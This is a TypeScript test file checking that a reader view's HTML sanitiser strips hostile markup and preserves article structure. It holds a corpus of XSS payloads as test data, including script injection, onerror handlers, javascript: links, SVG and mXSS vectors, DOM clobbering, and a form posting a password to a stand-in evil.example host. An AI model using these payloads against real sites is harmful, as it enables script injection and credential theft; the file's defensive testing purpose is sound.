// The reader view's sanitiser against a hostile corpus: whatever the page's HTML holds, what comes
// out is the article's structure and text only — no script, handler, style, form, frame, SVG or
// MathML, links only to web pages (new tab, no opener), images only when allowed.
import { JSDOM, VirtualConsole } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { ALLOWED_ATTR, ALLOWED_TAGS, MAX_READER_DEPTH, sanitiseArticle } from '../../../src/reader/sanitise';

/** A document that would run any script put in it (jsdom's "dangerously"): a surviving script would show. */
function livePage(): JSDOM {
  return new JSDOM('<!doctype html><body><main id="reader"></main><script>window.__hostile = [];</script></body>', {
    runScripts: 'dangerously',
    virtualConsole: new VirtualConsole(),
  });
}

/** Sanitises `html`, puts the result in a live page, and returns the page's reader element. */
function show(html: string, images = false): { dom: JSDOM; root: Element } {
  const dom = livePage();
  const root = dom.window.document.getElementById('reader')!;
  root.append(sanitiseArticle(html, dom.window as unknown as Window, { images, imageLabel: 'Image not shown' }));
  return { dom, root };
}

/** Every element and attribute outside the allow-list, plus the reader's own placeholder. */
function outsideAllowList(root: Element): string[] {
  const tags = new Set(ALLOWED_TAGS.map((t) => t.toUpperCase()));
  const attrs = new Set([...ALLOWED_ATTR, 'target', 'rel', 'referrerpolicy', 'loading']);
  const found: string[] = [];
  for (const el of root.querySelectorAll('*')) {
    const placeholder = el.tagName === 'SPAN' && el.className === 'image-placeholder';
    if (!tags.has(el.tagName) && !placeholder) found.push(el.tagName);
    for (const attr of el.getAttributeNames()) if (!attrs.has(attr) && !(placeholder && attr === 'class')) found.push(`${el.tagName}[${attr}]`);
  }
  return found;
}

function depth(root: Element): number {
  let max = 0;
  const stack: Array<[Element, number]> = [[root, 0]];
  while (stack.length) {
    const [el, d] = stack.pop()!;
    max = Math.max(max, d);
    for (const child of el.children) stack.push([child, d + 1]);
  }
  return max;
}

const ran = (dom: JSDOM): unknown[] => (dom.window as unknown as { __hostile: unknown[] }).__hostile;

const HOSTILE: Record<string, string> = {
  script: '<p>Before</p><script>window.__hostile.push("script")</script><p>After</p>',
  scriptInParagraph: '<p>One <script>window.__hostile.push("inline")</script>two</p>',
  onerror: '<p><img src="x" onerror="window.__hostile.push(\'onerror\')" alt="a photo">text</p>',
  handlers: '<p onclick="window.__hostile.push(1)" onmouseover="x()">Click <b onfocus="y()" tabindex="0">me</b></p>',
  javascriptLink: '<p><a href="javascript:window.__hostile.push(\'js\')">a link</a> and <a href=" JaVaScRiPt:alert(1)">another</a></p>',
  dataLink: '<p><a href="data:text/html,<script>alert(1)</script>">data link</a></p>',
  vbscript: '<p><a href="vbscript:msgbox(1)">vb</a></p>',
  relativeLink: '<p><a href="/popup.html">relative</a> <a href="#top">anchor</a></p>',
  svgScript: '<p>Chart:</p><svg onload="window.__hostile.push(\'svg\')"><script>window.__hostile.push("svg-script")</script><foreignObject><p>in svg</p></foreignObject></svg>',
  svgImage: '<p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg image"></p>',
  math: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>after math</p>',
  styleOverlay: '<style>body{display:none}</style><div style="position:fixed;inset:0;z-index:99999;background:white">Subscribe now</div><p style="color:red">Text</p>',
  linkStylesheet: '<link rel="stylesheet" href="https://evil.example/x.css"><p>Text</p>',
  iframe: '<p>Video:</p><iframe src="https://evil.example/frame" srcdoc="<script>parent.__hostile.push(1)</script>"></iframe>',
  form: '<form action="https://evil.example/steal"><input name="password" value="x"><button formaction="javascript:alert(1)">Go</button></form><p>After the form</p>',
  objectEmbed: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf"><p>x</p>',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><p>x</p>',
  clobbering: '<p id="reader" name="body"><a id="location" href="https://a.example/">x</a></p><img name="getElementById" src="x">',
  mxss: '<noscript><p title="</noscript><img src=x onerror=window.__hostile.push(\'mxss\')>"></noscript><p>x</p>',
  templateContent: '<template><script>window.__hostile.push("t")</script></template><p>visible</p>',
  classBorrowing: '<p class="image-placeholder reader-note" data-x="1" aria-hidden="true">text</p>',
  broken: '<p>Unclosed <b>bold <i>italic<p>next <a href="https://ok.example/">link<table><tr><td>cell</td><li>item</ul></div></section>',
  comments: '<p>a<!-- <img src=x onerror=alert(1)> -->b</p><![CDATA[<script>alert(1)</script>]]>',
  entities: '<p>&lt;script&gt;window.__hostile.push("entity")&lt;/script&gt;</p>',
};

describe('sanitiseArticle: hostile input', () => {
  for (const [name, html] of Object.entries(HOSTILE)) {
    it(`${name}: nothing runs, nothing outside the allow-list`, () => {
      const { dom, root } = show(html);
      expect(ran(dom)).toEqual([]);
      expect(outsideAllowList(root)).toEqual([]);
      expect(root.querySelectorAll('script, style, svg, math, iframe, form, input, object, embed, link, meta, base').length).toBe(0);
      for (const a of root.querySelectorAll('a')) {
        expect(a.getAttribute('href')).toMatch(/^https?:\/\//);
        expect(a.getAttribute('target')).toBe('_blank');
        expect(a.getAttribute('rel')).toBe('noopener noreferrer');
      }
      // No image is loaded by default.
      expect(root.querySelectorAll('img').length).toBe(0);
    });
  }

  it('keeps the text of what it removes, where that text is the article', () => {
    expect(show(HOSTILE.handlers!).root.textContent).toBe('Click me');
    expect(show(HOSTILE.javascriptLink!).root.textContent).toBe('a link and another');
    expect(show(HOSTILE.entities!).root.textContent).toBe('<script>window.__hostile.push("entity")</script>');
    expect(show(HOSTILE.styleOverlay!).root.textContent).toContain('Text');
    expect(show(HOSTILE.styleOverlay!).root.textContent).not.toContain('display:none');
    expect(show(HOSTILE.form!).root.textContent).toBe('After the form');
    const broken = show(HOSTILE.broken!).root;
    expect(broken.textContent).toContain('cell');
    expect(broken.querySelector('a')?.getAttribute('href')).toBe('https://ok.example/');
  });

  it('images: none by default (their alt text instead); web and bitmap images when allowed, SVG never', () => {
    const html = '<figure><img src="https://img.example/a.jpg" alt="The bridge" srcset="https://img.example/b.jpg 2x"><figcaption>Caption</figcaption></figure>' +
      '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt=""><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="vector"><img src="javascript:alert(1)" alt="js"></p>';
    const blocked = show(html).root;
    expect(blocked.querySelectorAll('img').length).toBe(0);
    expect([...blocked.querySelectorAll('.image-placeholder')].map((s) => s.textContent)).toEqual(['The bridge', 'Image not shown', 'vector', 'js']);
    expect(blocked.querySelector('figcaption')?.textContent).toBe('Caption');
    const allowed = show(html, true).root;
    const sources = [...allowed.querySelectorAll('img')].map((img) => img.getAttribute('src'));
    expect(sources).toEqual(['https://img.example/a.jpg', 'data:image/png;base64,iVBORw0KGgo=']);
    for (const img of allowed.querySelectorAll('img')) {
      expect(img.getAttribute('referrerpolicy')).toBe('no-referrer');
      expect(img.hasAttribute('srcset')).toBe(false);
    }
  });

  it('keeps the structure: headings, lists, quotes, figures, tables, time', () => {
    const html = '<div id="readability-page-1" class="page"><h2>Sub</h2><p>One <em>two</em> <strong>three</strong></p><ul><li>a</li></ul><ol><li>b</li></ol>' +
      '<blockquote><p>quoted</p></blockquote><table><thead><tr><th>h</th></tr></thead><tbody><tr><td colspan="2">c</td></tr></tbody></table>' +
      '<p><time datetime="2024-03-05">5 March</time><sup>1</sup><br><code>x</code></p><pre>pre</pre><hr></div>';
    const { root } = show(html);
    expect([...root.children].map((e) => e.tagName)).toEqual(['H2', 'P', 'UL', 'OL', 'BLOCKQUOTE', 'TABLE', 'P', 'PRE', 'HR']);
    expect(root.querySelector('td')?.getAttribute('colspan')).toBe('2');
    expect(root.querySelector('time')?.getAttribute('datetime')).toBe('2024-03-05');
  });

  it('text left loose by removed wrappers is put in paragraphs', () => {
    const { root } = show('<div>Loose text <b>bold</b><section>inner</section></div>');
    expect([...root.childNodes].map((n) => (n as Element).tagName ?? '#text')).toEqual(['P', 'P']);
    expect(root.textContent).toBe('Loose text boldinner');
  });

  // jsdom's own tree code recurses (it overflows at a few thousand levels; browsers' parsers cap the
  // depth at a few hundred): 1,000 here, 10,000 in the real browsers (tests/e2e/lib/reader.ts).
  it('1,000 nested elements: returns, capped in depth, every word kept', () => {
    const n = 1_000;
    const html = `${'<blockquote><b>'.repeat(n / 2)}deep words${'</b></blockquote>'.repeat(n / 2)}<p>after</p>`;
    const { dom, root } = show(html);
    expect(ran(dom)).toEqual([]);
    expect(depth(root)).toBeLessThanOrEqual(MAX_READER_DEPTH + 2);
    expect(root.textContent).toContain('deep words');
    expect(root.textContent).toContain('after');
  });

  // jsdom's DOM is two orders of magnitude slower than a browser's (DOMPurify takes ~8 s per 512 KB
  // here): the 5 MB article runs in the real browsers (tests/e2e/lib/reader.ts); this one checks the path.
  it('a long article (512 KB) with hostile markup throughout: returns, nothing runs', () => {
    const unit = '<p>Paragraph of the long article, with <a href="javascript:bad()">a link</a> <img src=x onerror="window.__hostile.push(1)"> and <script>window.__hostile.push(2)</script>text.</p>';
    const html = unit.repeat(Math.ceil((512 * 1024) / unit.length));
    const { dom, root } = show(html);
    expect(ran(dom)).toEqual([]);
    expect(root.children.length).toBe(Math.ceil((512 * 1024) / unit.length));
    expect(root.querySelectorAll('script, a, img').length).toBe(0);
  });
});
